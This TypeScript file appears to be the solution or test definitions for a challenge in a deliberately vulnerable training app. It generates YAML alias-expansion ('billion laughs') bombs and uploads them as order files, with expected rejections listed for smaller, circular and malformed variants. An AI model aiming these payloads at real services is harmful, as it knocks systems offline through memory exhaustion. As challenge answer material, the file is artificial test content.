import { defineWays } from '#game/define.ts'
import { uploadFile, uploadXmlOrder } from '#game/visitor/requests.ts'

const levels = (count: number, build: (part: string) => string): string =>
  Array.from(
    { length: count },
    (_, index) => `l${index}: &l${index} ${build(index === 0 ? 'lol' : `*l${index - 1}`)}\n`,
  ).join('')
const list = (part: string): string => `[${Array(9).fill(part).join(',')}]`

export default defineWays({
  otherWays: {
    'ten levels': (visitor) => uploadFile(visitor, 'order.yaml', levels(10, list)),
    'maps instead of lists': (visitor) =>
      uploadFile(
        visitor,
        'order.yml',
        levels(30, (part) => `{left: ${part}, right: ${part}}`),
      ),
    'a long text, very often': (visitor) =>
      uploadFile(
        visitor,
        'order.yml',
        `text: &t ${'juice'.repeat(10_000)}\nlist: [${Array(3000).fill('*t').join(',')}]`,
      ),
  },
  mishaps: {
    'a list': [410, (visitor) => uploadFile(visitor, 'order.yml', levels(1, list))],
    'three levels': [410, (visitor) => uploadFile(visitor, 'order.yml', levels(3, list))],
    'a circle': [410, (visitor) => uploadFile(visitor, 'order.yml', 'a: &a [*a]')],
    'what is no YAML at all': [410, (visitor) => uploadFile(visitor, 'order.yml', 'a: [')],
    'such a bomb in XML': [410, (visitor) => uploadXmlOrder(visitor, '', levels(9, list))],
    'such a bomb as PDF': [204, (visitor) => uploadFile(visitor, 'order.pdf', levels(9, list))],
  },
  companions: ['deprecatedInterfaceChallenge'],
})
